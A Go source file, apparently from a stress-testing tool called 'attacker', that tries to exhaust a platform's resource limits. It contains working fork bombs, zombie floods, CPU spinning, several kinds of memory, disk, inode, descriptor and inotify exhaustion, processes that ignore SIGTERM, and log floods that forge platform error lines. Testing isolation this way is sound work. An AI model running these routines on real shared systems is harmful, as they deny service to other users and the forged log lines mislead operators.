package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"os/signal"
	"runtime"
	"runtime/debug"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// forkBomb forks, and so do its children, each as fast as it can. setsid has
// every child leave its session and its parent, as daemons do.
func forkBomb(setsid bool) {
	warmUp()
	go func() {
		for range time.Tick(100 * time.Millisecond) {
			pid, err := fork()
			if pid == 0 && err == 0 {
				unix.RawSyscall(unix.SYS_EXIT, 0, 0, 0)
			}
			if err != 0 {
				say(os.Args[1], errnoName(err)+" at "+strconv.Itoa(processCount()/16*16)+" processes or more")
			}
		}
	}()
	for {
		pid, errno := fork()
		if pid == 0 && errno == 0 {
			if setsid {
				unix.RawSyscall(unix.SYS_SETSID, 0, 0, 0)
				if grandchild, _ := fork(); grandchild != 0 {
					unix.RawSyscall(unix.SYS_EXIT, 0, 0, 0)
				}
			}
			for { // nothing but system calls: the child has only this thread of the runtime
				fork()
			}
		}
	}
}

// warmUp has the runtime make the threads it will want: it ends the process
// when it cannot make one.
func warmUp() {
	debug.SetGCPercent(-1)
	var group sync.WaitGroup
	hold := make(chan struct{})
	for range 8 {
		group.Add(1)
		go func() {
			runtime.LockOSThread()
			group.Done()
			<-hold
			runtime.UnlockOSThread()
		}()
	}
	group.Wait()
	close(hold)
	runtime.LockOSThread()
}

// fork is fork(2) for code that makes only raw system calls afterwards.
//
//go:nosplit
//go:norace
func fork() (uintptr, syscall.Errno) {
	pid, _, errno := unix.RawSyscall(unix.SYS_CLONE, uintptr(unix.SIGCHLD), 0, 0)
	return pid, syscall.Errno(errno)
}

func processCount() (n int) {
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		if _, err := strconv.Atoi(e.Name()); err == nil {
			n++
		}
	}
	return n
}

// zombies leaves dead children unreaped, and orphans for PID 1 to reap.
func zombies() {
	warmUp()
	for {
		pid, errno := fork()
		if pid == 0 && errno == 0 {
			fork() // a grandchild whose parent is gone
			unix.RawSyscall(unix.SYS_EXIT, 0, 0, 0)
		}
		if errno != 0 {
			say("zombies", errnoName(errno)+" at "+strconv.Itoa(processCount()/16*16)+" processes or more")
			time.Sleep(time.Millisecond)
		}
	}
}

func spin() {
	say("spin", fmt.Sprintf("spinning on %d threads", 32))
	runtime.GOMAXPROCS(32)
	for range 32 {
		go func() {
			//lint:ignore SA5002 spinning is the attack
			for {
			}
		}()
	}
	rest()
}

// grow maps and touches memory, chunk by chunk.
func grow(name string, flags int, chunk int, pause time.Duration) {
	for total := 0; ; total += chunk {
		m, err := unix.Mmap(-1, 0, chunk, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_ANON|flags)
		if err != nil {
			say(name, answer(err))
			return
		}
		for i := 0; i < len(m); i += 4096 {
			m[i] = byte(i >> 12)
		}
		if pause > 0 {
			fmt.Printf("holds %d MiB\n", (total+chunk)>>20)
			time.Sleep(pause)
		}
	}
}

func memoryAnon()   { grow("memory-anon", unix.MAP_PRIVATE, 1<<20, 0) }
func memoryShared() { grow("memory-shared", unix.MAP_SHARED, 1<<20, 0) }

// memorySteps grows 10 MiB a step. At MEMORY_REST MiB it rests a while, so
// that samples are taken of it.
func memorySteps() {
	stop, _ := strconv.Atoi(os.Getenv("MEMORY_REST"))
	for total := 10; ; total += 10 {
		m, err := unix.Mmap(-1, 0, 10<<20, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_ANON|unix.MAP_PRIVATE)
		if err != nil {
			say("memory-steps", answer(err))
			return
		}
		for i := 0; i < len(m); i += 8 { // no two pages alike, else they would be worth nothing in a compressed swap
			m[i], m[i+1], m[i+2] = byte(i>>3), byte(i>>11), byte(total)
		}
		fmt.Printf("holds %d MiB\n", total)
		pause := 20 * time.Millisecond
		if total/10 == stop/10 {
			pause = 45 * time.Second
		}
		time.Sleep(pause)
	}
}

// fill writes a file until it cannot.
func fill(name, path string, chunk int) {
	f, err := os.Create(path)
	if err != nil {
		say(name, path+": "+answer(err))
		return
	}
	defer f.Close()
	buf := bytes.Repeat([]byte("0123456789abcdef"), chunk/16)
	for total := 0; ; {
		n, err := f.Write(buf)
		total += n
		if err != nil {
			say(name, fmt.Sprintf("%s: %s at %d MiB", path, answer(err), total>>20))
			return
		}
	}
}

func memoryTmpfs() {
	for _, path := range []string{"/dev/shm/x", "/dev/x", "/sys/fs/cgroup/x", "/run/x"} {
		fill("memory-tmpfs", path, 1<<20)
		if path == "/run/x" {
			_ = os.Remove(path)
		}
	}
}

// pageCache reads and writes far more than the quota.
func pageCache() {
	const size = 1 << 30
	buf := make([]byte, 1<<20)
	for round := 0; ; round++ {
		f, err := os.Create("/tmp/cache")
		if err != nil {
			say("page-cache", answer(err))
			return
		}
		for range size >> 20 {
			if _, err := f.Write(buf); err != nil {
				say("page-cache", answer(err))
			}
		}
		for range 3 {
			_, _ = f.Seek(0, 0)
			for range size >> 20 {
				_, _ = f.Read(buf)
			}
		}
		f.Close()
		say("page-cache", "1 GiB written and read three times, alive")
	}
}

// memoryPipes fills pipes as large as they get.
func memoryPipes() {
	buf := make([]byte, 1<<20)
	total, pipes := 0, 0
	for {
		var p [2]int
		if err := unix.Pipe2(p[:], unix.O_NONBLOCK); err != nil {
			say("memory-pipes", fmt.Sprintf("%s after %d MiB", answer(err), total>>20))
			return
		}
		pipes++
		_, _ = unix.FcntlInt(uintptr(p[1]), unix.F_SETPIPE_SZ, 1<<20)
		n, _ := unix.Write(p[1], buf)
		total += max(n, 0)
	}
}

// memorySockets fills socket pairs that nobody reads.
func memorySockets() {
	buf := make([]byte, 64<<10)
	total := 0
	for {
		p, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_NONBLOCK, 0)
		if err != nil {
			say("memory-sockets", fmt.Sprintf("%s after %d MiB", answer(err), total>>20))
			return
		}
		for _, fd := range p {
			_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_SNDBUF, 1<<30)
			for {
				n, err := unix.Write(fd, buf)
				if err != nil {
					break
				}
				total += n
			}
		}
	}
}

// memoryTCP fills connections to itself that nobody reads.
func memoryTCP() {
	listener, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err == nil {
		err = unix.Bind(listener, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}, Port: 7777})
	}
	if err == nil {
		err = unix.Listen(listener, 4096)
	}
	if err != nil {
		say("memory-tcp", answer(err))
		return
	}
	buf := make([]byte, 256<<10)
	total := 0
	var senders []int
	for {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
		if err != nil {
			break
		}
		_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_SNDBUF, 1<<30)
		if err := unix.Connect(fd, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}, Port: 7777}); err != nil {
			unix.Close(fd)
			break
		}
		if _, _, err := unix.Accept(listener); err != nil {
			break
		}
		_ = unix.SetNonblock(fd, true)
		senders = append(senders, fd)
	}
	for {
		before := total
		for _, fd := range senders {
			for {
				n, err := unix.Write(fd, buf)
				if err != nil {
					break
				}
				total += n
			}
		}
		if total-before < 1<<20 {
			say("memory-tcp", fmt.Sprintf("no more than %d MiB in %d connections", total>>24<<4, len(senders)))
			time.Sleep(100 * time.Millisecond)
		}
	}
}

func fillDisk() {
	fill("disk", "/tmp/disk", 1<<20)
	rest()
}

func fillInodes() {
	for i := 0; ; i++ {
		if i%1000 == 0 {
			_ = os.Mkdir(fmt.Sprintf("/tmp/d%d", i/1000), 0o755)
		}
		fd, err := unix.Open(fmt.Sprintf("/tmp/d%d/%d", i/1000, i), unix.O_CREAT|unix.O_WRONLY, 0o644)
		if err != nil {
			say("inodes", fmt.Sprintf("%s at %d thousand files", answer(err), i/1000))
			rest()
		}
		unix.Close(fd)
	}
}

// fsyncStorm has the disk do small work.
func fsyncStorm() {
	f, err := os.Create("/tmp/sync")
	if err != nil {
		say("fsync", answer(err))
		return
	}
	buf := make([]byte, 4096)
	for i := 0; ; i++ {
		_, _ = f.WriteAt(buf, int64(i%1000)*4096)
		_ = f.Sync()
		if i == 1000 {
			say("fsync", "a thousand done")
		}
	}
}

// logFlood writes as fast as it can, without an end of line.
func logFlood() {
	say("log-flood", "begins")
	buf := bytes.Repeat([]byte("a flood "), 128<<10)
	for {
		_, _ = os.Stdout.Write(buf)
	}
}

// logLines writes short lines as fast as it can, some of them as if from the
// platform.
func logLines() {
	say("log-lines", "begins")
	buf := []byte(strings.Repeat("x\nheroku[router]: at=error code=H10\nError R14 (Memory quota exceeded)\n", 1000))
	for {
		_, _ = os.Stdout.Write(buf)
	}
}

func descriptors() {
	for n := 3; ; n++ {
		if _, err := unix.Open("/dev/null", unix.O_RDONLY, 0); err != nil {
			say("descriptors", fmt.Sprintf("%s at %d", answer(err), n/1000*1000))
			return
		}
	}
}

// watches uses up inotify instances, of which each user has few.
func watches() {
	for n := 0; ; n++ {
		if _, err := unix.InotifyInit(); err != nil {
			say("watches", fmt.Sprintf("%s at %d", answer(err), n))
			return
		}
	}
}

// queues fills System V shared memory and message queues.
func queues() {
	total := 0
	for {
		id, err := unix.SysvShmGet(0, 16<<20, 0o600|unix.IPC_CREAT)
		if err != nil {
			say("queues", fmt.Sprintf("%s after %d MiB", answer(err), total>>20))
			return
		}
		m, err := unix.SysvShmAttach(id, 0, 0)
		if err != nil {
			say("queues", answer(err))
			return
		}
		for i := 0; i < len(m); i += 4096 {
			m[i] = 1
		}
		_ = unix.SysvShmDetach(m)
		total += len(m)
	}
}

// stubborn does not heed SIGTERM, nor do its children in sessions of theirs.
func stubborn() {
	signal.Ignore(syscall.SIGTERM, syscall.SIGHUP, syscall.SIGINT)
	for range 5 {
		if _, err := syscall.ForkExec("/proc/self/exe", []string{"attacker", "child-stubborn"}, &syscall.ProcAttr{Files: []uintptr{0, 1, 2}, Sys: &syscall.SysProcAttr{Setsid: true}}); err != nil {
			say("stubborn", answer(err))
		}
	}
	say("stubborn", "does not heed SIGTERM")
	time.Sleep(time.Hour)
}

func init() {
	children["child-stubborn"] = func() {
		signal.Ignore(syscall.SIGTERM, syscall.SIGHUP, syscall.SIGINT)
		for {
			time.Sleep(time.Hour)
		}
	}
	if len(os.Args) == 0 {
		panic(errors.New("started without a name"))
	}
}
